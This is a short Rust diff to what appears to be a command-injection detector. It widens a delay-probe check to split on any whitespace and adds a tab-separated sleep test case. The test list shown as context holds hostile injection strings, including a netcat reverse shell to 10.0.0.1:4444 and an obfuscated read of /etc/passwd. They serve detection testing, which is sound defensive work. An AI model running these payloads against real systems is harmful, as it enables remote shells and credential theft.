@@ -725,7 +725,7 @@ impl Detector for Rce {
                     && matches!(b.get(i), Some(b';' | b'|' | b'&'))
                     && segment
                         .trim_start()
-                        .split_once(' ')
+                        .split_once(char::is_whitespace)
                         .is_some_and(|(name, rest)| delay_probe(name, rest))
                 {
                     c.max(0.85)
@@ -1016,6 +1016,7 @@ mod tests {
             "`uname -a`",
             "`id`",
             ";sleep 5;",
+            ";sleep\t5;",
             "`sleep 5`",
             ";nc 10.0.0.1 4444 -e /bin/sh",
             "cat /etc/pa{s,}s?d",
